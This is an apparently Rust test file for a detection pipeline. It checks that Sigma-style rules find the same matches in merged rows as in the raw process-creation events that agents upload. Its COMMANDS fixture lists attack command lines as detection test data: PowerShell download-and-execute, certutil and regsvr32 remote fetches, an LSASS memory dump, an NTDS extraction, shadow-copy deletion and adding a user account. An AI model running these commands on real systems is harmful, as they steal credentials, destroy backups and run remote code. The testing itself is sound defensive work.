//! Rules find in what the core gets exactly what they find in what agents sent: the same rule on the same host for the
//! same key, as often.
//!
//! `WEIR_TEST_EVENTS` may name a file of real process creations, a JSON object a line with `host` and the fields of
//! `life::SAME`; without it the last test looks at made-up events only, and says so.

mod life;
mod sigma;

use std::collections::{BTreeMap, BTreeSet};
use std::io::Write as _;

use proptest::prelude::*;
use serde_json::{Map, Value};

use self::life::{Act, Row, SAME, Sent, live, plan};
use self::sigma::RULES;

/// Tenant, agent and the text of each field of the key.
type Key = (Option<String>, String, Vec<Option<String>>);

/// How often each key was seen, and how often each rule fired for it.
#[derive(Debug, Default, PartialEq, Eq)]
struct Findings {
    keys: BTreeMap<Key, u64>,
    hits: BTreeMap<(&'static str, Key), u64>,
}

impl Findings {
    fn add(&mut self, tenant: Option<&str>, agent: &str, fields: &Value, count: u64) {
        let values = SAME.iter().map(|field| fields.get(field).map(Value::to_string)).collect();
        let key: Key = (tenant.map(str::to_owned), agent.to_owned(), values);
        for rule in RULES.iter().filter(|rule| rule.fires(fields)) {
            *self.hits.entry((rule.name, key.clone())).or_default() += count;
        }
        *self.keys.entry(key).or_default() += count;
    }

    fn in_what_was_sent(acts: &[Act]) -> Self {
        let mut findings = Self::default();
        let uploads = acts.iter().filter_map(|act| if let Act::Upload(sent) = act { Some(sent) } else { None });
        for sent in uploads {
            for record in &sent.records {
                let fields = serde_json::from_str(record).expect("a record is JSON");
                findings.add(sent.tenant.as_deref(), &sent.agent, &fields, 1);
            }
        }
        findings
    }

    fn in_rows(rows: &[Row]) -> Self {
        let mut findings = Self::default();
        for row in rows {
            findings.add(row.tenant.as_deref(), &row.agent, &row.fields, row.count);
        }
        findings
    }

    fn rules(&self) -> BTreeSet<&'static str> {
        self.hits.keys().map(|(rule, _)| *rule).collect()
    }
}

const IMAGES: &[&str] = &[
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "C:\\WINDOWS\\SYSTEM32\\RUNDLL32.EXE",
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\Windows\\System32\\certutil.exe",
    "C:\\Windows\\System32\\vssadmin.exe",
    "C:\\Windows\\System32\\wbem\\WMIC.exe",
    "C:\\Windows\\System32\\regsvr32.exe",
    "C:\\Windows\\System32\\schtasks.exe",
    "C:\\Windows\\System32\\net1.exe",
    "C:\\Windows\\System32\\ntdsutil.exe",
    "C:\\Windows\\explorer.exe",
];

const COMMANDS: &[&str] = &[
    "powershell.exe -NoP -Enc SQBFAFgA",
    "powershell.exe -nop -enc SQBFAFgA",
    "powershell.exe IEX (New-Object Net.WebClient).DownloadString('http://x/é')",
    "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \"",
    "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
    "certutil.exe -urlcache -split -f http://x/y.exe",
    "vssadmin.exe delete shadows /all /quiet",
    "wmic.exe shadowcopy delete",
    "wmic.exe /node:x process call create \"cmd.exe\"",
    "regsvr32.exe /s /u /i:http://x/y.sct scrobj.dll",
    "schtasks.exe /create /tn x /tr y",
    "schtasks.exe /query",
    "net1 user x y /add",
    "ntdsutil \"ac i ntds\" ifm \"create full C:\\x\" q q",
    "",
];

const PARENTS: &[&str] = &[
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    "C:\\Windows\\PSEXESVC.exe",
    "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
    "C:\\Windows\\System32\\services.exe",
    "C:\\Windows\\explorer.exe",
];

const PARENT_COMMANDS: &[&str] =
    &["wscript.exe C:\\Users\\x\\Downloads\\a.js", "explorer.exe", "cmd.exe /c C:\\Temp\\a.bat"];

const USERS: &[&str] = &["NT AUTHORITY\\SYSTEM", "CORP\\anna", "corp\\Anna"];

/// A field: one of the words, or missing.
fn field(name: &'static str, words: &'static [&'static str]) -> impl Strategy<Value = Option<(&'static str, Value)>> {
    let word = proptest::sample::select(words).prop_map(Value::from);
    proptest::option::weighted(
        0.9,
        prop_oneof![20 => word, 1 => Just(Value::Null)].prop_map(move |value| (name, value)),
    )
}

fn record() -> impl Strategy<Value = String> {
    let fields = (
        field("image_path", IMAGES),
        field("cmdline", COMMANDS),
        field("user", USERS),
        field("parent_image", PARENTS),
        field("parent_cmdline", PARENT_COMMANDS),
        any::<u16>(),
    );
    fields.prop_map(|(image, command, user, parent, parent_command, pid)| {
        let mut record: Map<String, Value> = [image, command, user, parent, parent_command]
            .into_iter()
            .flatten()
            .map(|(name, value)| (name.to_owned(), value))
            .collect();
        record.insert("pid".to_owned(), pid.into());
        Value::from(record).to_string()
    })
}

fn acts() -> impl Strategy<Value = Vec<Act>> {
    // Uploads draw from a few records, so that most are repeats.
    proptest::collection::vec(record(), 1..24).prop_flat_map(|vocabulary| {
        let records = proptest::collection::vec(proptest::sample::select(vocabulary), 1..12);
        let upload = (0..4u8, records).prop_map(|(agent, records)| {
            let tenant = (agent > 0).then(|| format!("t-{}", agent % 2));
            Act::Upload(Sent { tenant, agent: format!("host-{agent}"), records })
        });
        let act = prop_oneof![
            8 => upload,
            3 => (1..40_000u64).prop_map(Act::Wait),
            2 => Just(Act::Seal),
            1 => Just(Act::Restart),
        ];
        proptest::collection::vec(act, 1..40)
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    #[test]
    fn rules_find_the_same_in_merged_rows_as_in_what_agents_sent(acts in acts(), keys in 4..200usize) {
        let rows = live(&plan(&SAME, keys), &acts);
        prop_assert_eq!(Findings::in_rows(&rows), Findings::in_what_was_sent(&acts));
    }
}

/// Every image with every command, parent and user, twice.
fn all_combinations() -> Vec<Act> {
    let mut records = Vec::new();
    for (number, image) in IMAGES.iter().enumerate() {
        for (other, command) in COMMANDS.iter().enumerate() {
            let parent = PARENTS[(number + other) % PARENTS.len()];
            let user = USERS[(number * 7 + other) % USERS.len()];
            let parent_command = PARENT_COMMANDS[other % PARENT_COMMANDS.len()];
            records.push(
                serde_json::json!({"image_path": image, "cmdline": command, "user": user, "parent_image": parent,
                    "parent_cmdline": parent_command, "pid": number})
                .to_string(),
            );
        }
    }
    let upload = Act::Upload(Sent { tenant: None, agent: "host-1".to_owned(), records });
    vec![upload.clone(), upload]
}

#[test]
fn each_rule_fires_on_made_up_events() {
    let found = Findings::in_what_was_sent(&all_combinations()).rules();
    let silent: Vec<_> = RULES.iter().map(|rule| rule.name).filter(|name| !found.contains(name)).collect();
    assert_eq!(silent, [] as [&str; 0]);
}

#[test]
fn merging_on_fewer_fields_than_rules_look_at_would_be_noticed() {
    let acts = all_combinations();
    let sent = Findings::in_what_was_sent(&acts);
    for left_out in ["cmdline", "user", "parent_image"] {
        let same: Vec<&str> = SAME.iter().copied().filter(|field| *field != left_out).collect();
        let rows = live(&plan(&same, 10_000), &acts);
        assert_ne!(Findings::in_rows(&rows).hits, sent.hits, "{left_out}");
    }
}

#[test]
fn rules_find_the_same_in_real_events() {
    let Some(path) = std::env::var_os("WEIR_TEST_EVENTS") else {
        say("rules: WEIR_TEST_EVENTS is not set: no real events were looked at");
        return;
    };
    let text = std::fs::read_to_string(&path).expect("WEIR_TEST_EVENTS names a file of text");
    let acts = replay(&text, 4);
    let sent = Findings::in_what_was_sent(&acts);
    let events: u64 = sent.keys.values().sum();
    assert!(events > 0, "there are no events in the file");
    for (keys, room) in [(1_000_000, "room for all keys"), (50, "room for 50 keys")] {
        let rows = live(&plan(&SAME, keys), &acts);
        let found = Findings::in_rows(&rows);
        let early = rows.iter().filter(|row| row.early).count();
        say(&format!(
            "rules: {room}: {events} real events of {} keys became {} rows, {early} of them early; {} rules fired for {} \
             keys, {} times",
            sent.keys.len(),
            rows.len(),
            found.rules().len(),
            found.hits.len(),
            found.hits.values().sum::<u64>(),
        ));
        assert!(found == sent, "rules do not find in the rows what they find in the events");
    }
}

/// The file's events so many times over, 20 ms apart, in uploads of runs of one host; a generation each second, and a
/// restart in the middle of each round.
fn replay(text: &str, rounds: usize) -> Vec<Act> {
    let events: Vec<(String, &str)> = text
        .lines()
        .filter(|line| !line.trim().is_empty())
        .map(|line| {
            let event: Value = serde_json::from_str(line).expect("each line is a JSON object");
            (event["host"].as_str().unwrap_or("unknown").to_owned(), line)
        })
        .collect();
    let mut acts = Vec::new();
    for _ in 0..rounds {
        for (number, run) in
            events.chunk_by(|(one, _), (other, _)| one == other).flat_map(|run| run.chunks(24)).enumerate()
        {
            let agent = run[0].0.clone();
            let tenant = agent.split_once('.').map(|(_, domain)| domain.to_owned());
            let records: Vec<String> = run.iter().map(|(_, line)| (*line).to_owned()).collect();
            acts.push(Act::Wait(20 * records.len() as u64));
            acts.push(Act::Upload(Sent { tenant, agent, records }));
            if number % 4 == 3 {
                acts.push(Act::Seal);
            }
        }
        acts.insert(acts.len() - acts.len() / (2 * rounds), Act::Restart);
    }
    acts
}

/// Says it even where the output of tests that pass is not shown.
fn say(line: &str) {
    writeln!(std::io::stderr(), "{line}").unwrap_or(());
}
